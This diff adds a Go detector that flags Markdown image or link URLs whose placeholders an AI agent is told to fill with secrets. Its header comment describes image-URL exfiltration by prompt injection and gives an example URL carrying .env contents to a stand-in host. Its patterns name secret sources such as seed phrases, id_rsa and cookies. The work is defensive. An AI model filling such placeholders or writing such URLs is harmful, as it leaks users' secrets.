@@ -1,0 +1,212 @@
+package script
+
+import (
+	"regexp"
+	"strings"
+)
+
+// imageLeaks reports a Markdown image (or an HTML img) in the prose of a
+// Markdown file whose URL holds a placeholder the agent is to fill with
+// secret data: ![s](https://h/p.png?d={CONTENTS_OF_DOT_ENV}). A client
+// fetches an image when it renders the answer, so what fills the
+// placeholder leaves the machine without a click (Invariant Labs' and
+// others' image-URL exfiltration). A placeholder is secret data when its
+// own name says so (API_KEY, {env}, <token>) or when a sentence of the
+// document names it together with a secret source (".env", a token, a
+// key, a wallet's seed). Images in fenced code blocks are examples, not
+// read here.
+func (a *analyzer) imageLeaks(path, src string) {
+	if !a.report || !strings.Contains(src, "://") {
+		return
+	}
+	prose := blankFences(src)
+	for _, m := range proseURLRE().FindAllStringSubmatchIndex(prose, 64) {
+		image := m[2] >= 0 || m[4] >= 0
+		us, ue := m[6], m[7]
+		switch {
+		case m[2] >= 0:
+			us, ue = m[2], m[3]
+		case m[4] >= 0:
+			us, ue = m[4], m[5]
+		}
+		url := prose[us:ue]
+		host := hostOf(url)
+		if host == "" || localHost(host) || strings.ContainsAny(host, "{}<>$%") {
+			continue
+		}
+		// An image is fetched when the answer is rendered: any secret in
+		// its URL leaves. A link or an address to open leaves when the
+		// agent follows it: only what has no place in a URL (a .env file,
+		// a seed phrase, a private key, a password) is reported there.
+		named, source := secretWords, secretSourceRE
+		if !image {
+			named, source = strongSecretWords, strongSourceRE
+		}
+		if !image {
+			// A link defined for a reference-style image is an image.
+			for _, d := range refDefRE().FindAllStringSubmatchIndex(prose, 64) {
+				if d[4] == us && refImages(prose)[strings.ToLower(prose[d[2]:d[3]])] {
+					image = true
+					named, source = secretWords, secretSourceRE
+				}
+			}
+		}
+		for _, p := range placeholderRE().FindAllString(url, 8) {
+			if i := strings.IndexByte(p, '='); i >= 0 && (p[0] == '?' || p[0] == '&') {
+				p = strings.TrimSuffix(p[i+1:], "&") // ?d=ENCODED_ENV: the value
+			}
+			name := strings.Trim(p, "{}<>$[] ")
+			if l := strings.ToLower(name); strings.HasPrefix(l, "your") || strings.HasPrefix(l, "my") {
+				continue // YOUR_API_KEY: for the reader to fill in, not the agent
+			}
+			why := ""
+			if named(name) {
+				why = "the placeholder " + p
+			} else if s := sentenceNaming(prose, p, us, ue, source()); s != "" {
+				why = "the placeholder " + p + ", filled with what this says: " + clip(s, 120)
+			}
+			if why == "" {
+				continue
+			}
+			sink := "a link to " + host + " the agent is told to fill in"
+			if image {
+				sink = "an image from " + host + " the client fetches when it renders the answer"
+			}
+			u := &unit{a: a, path: path}
+			u.hit(Hit{Kind: SecretFlow, Line: strings.Count(src[:m[0]], "\n") + 1, Level: 2, Source: why, Sink: sink, Text: lineText(src, m[0])})
+			break
+		}
+	}
+}
+
+var (
+	// proseURLRE is a Markdown image's URL, an HTML img's src, or any
+	// other URL.
+	proseURLRE = lazyRegexp(`!\[[^\]\n]*\]\(\s*<?(https?://[^\s)>]+)|<img\s[^>]*?src\s*=\s*["'](https?://[^"']+)|(https?://[^\s)\]"'\x60]+)`)
+	// refImageRE is a reference-style image, ![alt][id]; refDefRE the
+	// definition of a reference, [id]: URL.
+	refImageRE = lazyRegexp(`!\[[^\]\n]*\]\[([^\]\n]+)\]`)
+	refDefRE   = lazyRegexp(`(?m)^ {0,3}\[([^\]\n]+)\]:\s*<?(https?://\S+?)>?\s*$`)
+	// placeholderRE is a slot to be filled: {NAME}, {{name}}, <name>, $NAME, ${NAME}, [NAME].
+	// A query value in capitals and underscores (?d=ENCODED_ENV) is a
+	// slot too.
+	placeholderRE = lazyRegexp(`[?&][A-Za-z0-9_]+=[A-Z][A-Z0-9]*(?:_[A-Z0-9]+)+(?:&|$)|\{\{?\s*[A-Za-z_][\w .-]{0,40}?\s*\}?\}|%7[Bb][A-Za-z_][\w.-]{0,40}%7[Dd]|<[A-Za-z_][\w .-]{0,40}>|%3[Cc][A-Za-z_][\w.-]{0,40}%3[Ee]|\$\{?[A-Za-z_][A-Za-z0-9_]{1,40}\}?|\[[A-Z_][A-Z0-9_]{1,40}\]`)
+	// secretSourceRE names secret data in a sentence.
+	strongSourceRE = lazyRegexp(`(?i)\.env\b|dotenv|environment variables|seed phrase|recovery phrase|secret phrase|mnemonic|private[ _-]?keys?|\bssh\b|id_rsa|id_ed25519|passwords?|cookies|keystore|wallet\.dat`)
+	secretSourceRE = lazyRegexp(`(?i)\.env\b|dotenv|environment variables?|\bsecrets?\b|\btokens?\b|api[ _-]?keys?|passwords?|credentials?|private[ _-]?keys?|\bssh\b|id_rsa|id_ed25519|cookies?|seed phrase|recovery phrase|mnemonic|wallet`)
+)
+
+// secretWords reports a placeholder whose name denotes secret data.
+func secretWords(name string) bool {
+	n := strings.ToUpper(strings.NewReplacer(" ", "_", "-", "_", ".", "_").Replace(strings.TrimPrefix(strings.TrimPrefix(name, "%7B"), "%3C")))
+	if secretName(n) {
+		return true
+	}
+	for _, w := range strings.Split(n, "_") {
+		switch w {
+		case "ENV", "DOTENV", "SECRET", "SECRETS", "CREDENTIALS", "CREDS", "PASSWORD", "SSH", "MNEMONIC", "SEED", "COOKIES":
+			return true
+		}
+	}
+	return false
+}
+
+// refImages is the set of reference ids images use (![alt][id]), in
+// lower case as Markdown matches them.
+func refImages(prose string) map[string]bool {
+	m := map[string]bool{}
+	for _, r := range refImageRE().FindAllStringSubmatch(prose, 64) {
+		m[strings.ToLower(r[1])] = true
+	}
+	return m
+}
+
+// strongSecretWords reports a placeholder whose name denotes data that
+// has no place in a URL: the environment, a seed phrase, a private key,
+// a password, cookies.
+func strongSecretWords(name string) bool {
+	n := strings.ToUpper(strings.NewReplacer(" ", "_", "-", "_", ".", "_").Replace(name))
+	for _, w := range strings.Split(n, "_") {
+		switch w {
+		case "ENV", "DOTENV", "SEED", "MNEMONIC", "PHRASE", "PRIVATE", "PRIVKEY", "SSH", "RSA", "PASSWORD", "PASSWD", "COOKIE", "COOKIES", "SECRETS", "CREDENTIALS", "KEYSTORE":
+			return true
+		}
+	}
+	return false
+}
+
+// sentenceNaming is the first sentence of prose (outside the image's
+// URL, from us to ue) that names the placeholder p together with a
+// secret source, "" if none.
+func sentenceNaming(prose, p string, us, ue int, source *regexp.Regexp) string {
+	for off := 0; off < len(prose); {
+		k := strings.Index(prose[off:], p)
+		if k < 0 {
+			return ""
+		}
+		at := off + k
+		off = at + len(p)
+		if at >= us && at < ue {
+			continue // the image itself
+		}
+		s := clauseAround(prose, at)
+		if source.MatchString(strings.ReplaceAll(s, p, "")) && !negatedRE().MatchString(s) {
+			return s
+		}
+	}
+	return ""
+}
+
+// clauseAround is the clause holding offset at: from the last sentence
+// end, semicolon or line end before it to the next (a dot inside a word,
+// as in ".env", ends nothing).
+func clauseAround(s string, at int) string {
+	ends := func(i int) bool {
+		switch s[i] {
+		case '\n', ';', '!', '?':
+			return true
+		case '.':
+			return i+1 == len(s) || s[i+1] == ' ' || s[i+1] == '\n'
+		}
+		return false
+	}
+	start := at
+	for start > 0 && start > at-400 && !ends(start-1) {
+		start--
+	}
+	end := at
+	for end < len(s) && end < at+400 && !ends(end) {
+		end++
+	}
+	return s[start:end]
+}
+
+// negatedRE is a clause that says not to do something.
+var negatedRE = lazyRegexp(`(?i)\b(?:never|not|don't|do not|no)\b`)
+
+// blankFences is src with its fenced code blocks blanked (newlines kept,
+// so that offsets and lines stay).
+func blankFences(src string) string {
+	if !strings.Contains(src, "```") && !strings.Contains(src, "~~~") {
+		return src
+	}
+	b := []byte(src)
+	for _, m := range fenceRE().FindAllStringIndex(src, -1) {
+		for i := m[0]; i < m[1]; i++ {
+			if b[i] != '\n' {
+				b[i] = ' '
+			}
+		}
+	}
+	return string(b)
+}
+
+var fenceRE = lazyRegexp("(?ms)^ {0,3}(?:```|~~~).*?^ {0,3}(?:```|~~~)[ \t]*$")
+
+func clip(s string, n int) string {
+	s = strings.Join(strings.Fields(s), " ")
+	if len(s) > n {
+		return s[:n] + "…"
+	}
+	return s
+}
